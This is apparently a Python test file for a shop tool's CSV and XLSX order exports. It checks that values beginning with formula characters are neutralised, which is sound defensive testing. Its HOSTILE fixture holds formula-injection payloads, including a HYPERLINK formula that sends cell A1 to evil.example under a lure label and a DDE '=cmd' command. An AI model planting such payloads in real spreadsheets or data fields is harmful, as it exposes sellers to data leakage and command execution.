"""Exports a seller can open in Excel without a buyer's message turning into a formula."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest

from shopdesk.domain.errors import InputError
from shopdesk.store.export import ExportCancelled, export, neutralise
from shopdesk.store.safeio import TEMP_PREFIX

HOSTILE = {
    "buyer_message": '=HYPERLINK("http://evil.example/?x="&A1,"点我领红包")',
    "seller_note": "+86 138 0000 1111",
    "buyer_nick": "@SUM(1+1)",
    "receiver_name": "-2+3",
    "item_titles": "\t=cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile_store(demo_store):
    demo_store.save_order(
        {"platform": "taobao", "order_no": "9999000011112222", "status": "买家已付款",
         "state": "paid", "paid_fen": 1234, "paid_at": "2026-11-27T02:00:00Z", **HOSTILE}
    )  # fmt: skip
    return demo_store


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("普通文字 = 1", "普通文字 = 1"),
        (-5, -5),
        ("", ""),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_csv_export_has_a_bom_and_no_formula_cells(hostile_store, tmp_path, now):
    out = tmp_path / "订单.csv"
    result = export(hostile_store, "orders", out, now)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][0] == "订单号" and len(rows) == result.rows + 1 == 302
    # the order number as Taobao writes it, so Excel keeps every digit ...
    (row,) = [r for r in rows if r[0] == '="9999000011112222"']
    cells = [c for r in rows[1:] for c in r]
    # ... and that is the only kind of cell Excel would take for a formula
    formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert formulas and all(re.fullmatch(r'="[0-9]{12,}"', c) for c in formulas)
    assert f"'{HOSTILE['buyer_message']}" in row and "12.34" in row
    assert f"'{HOSTILE['item_titles']}" in row


def test_xlsx_export_keeps_text_as_text(hostile_store, tmp_path, now):
    out = tmp_path / "orders.xlsx"
    export(hostile_store, "orders", out, now)
    sheet = openpyxl.load_workbook(out).active
    assert sheet.title == "订单"
    rows = list(sheet.iter_rows(values_only=True))
    (row,) = [r for r in rows if r[0] == "9999000011112222"]
    assert f"'{HOSTILE['buyer_message']}" in row
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
    assert float(row[6]) == 12.34


def test_cases_and_due_exports(demo_store, tmp_path, now):
    cases = export(demo_store, "cases", tmp_path / "cases.xlsx", now)
    assert cases.rows == len(demo_store.list_cases())
    due = export(demo_store, "due", tmp_path / "due.csv", now)
    text = (tmp_path / "due.csv").read_text(encoding="utf-8-sig")
    assert due.rows > 0 and text.startswith("截止时间,剩余(小时),谁处理,事项")


def test_cancel_leaves_no_file(demo_store, tmp_path, now):
    folder = tmp_path / "exports"
    folder.mkdir()
    for name in ("orders.csv", "orders.xlsx"):
        with pytest.raises(ExportCancelled):
            export(demo_store, "orders", folder / name, now, cancelled=lambda: True)
    assert list(folder.iterdir()) == []


def test_export_replaces_an_old_file_only_when_complete(demo_store, tmp_path, now):
    out = tmp_path / "orders.csv"
    out.write_text("昨天的导出", encoding="utf-8")
    with pytest.raises(ExportCancelled):
        export(demo_store, "orders", out, now, cancelled=lambda: True)
    assert out.read_text(encoding="utf-8") == "昨天的导出"
    export(demo_store, "orders", out, now)
    assert "订单号" in out.read_text(encoding="utf-8-sig")
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(TEMP_PREFIX)]


@pytest.mark.parametrize("name", ["orders.pdf", "orders"])
def test_unknown_format_is_input_to_fix(demo_store, tmp_path, now, name):
    with pytest.raises(InputError, match="csv 或 xlsx"):
        export(demo_store, "orders", tmp_path / name, now)


def test_cli_export(demo_store, tmp_path, capsys):
    from shopdesk.cli import main

    out = tmp_path / "cases.csv"
    assert main(["export", "cases", "--db", str(demo_store.path), "--out", str(out), "--json"]) == 0
    assert '"rows"' in capsys.readouterr().out
    assert (
        main(["export", "orders", "--db", str(demo_store.path), "--out", str(tmp_path / "x.txt")])
        == 2
    )
    assert "csv 或 xlsx" in capsys.readouterr().err
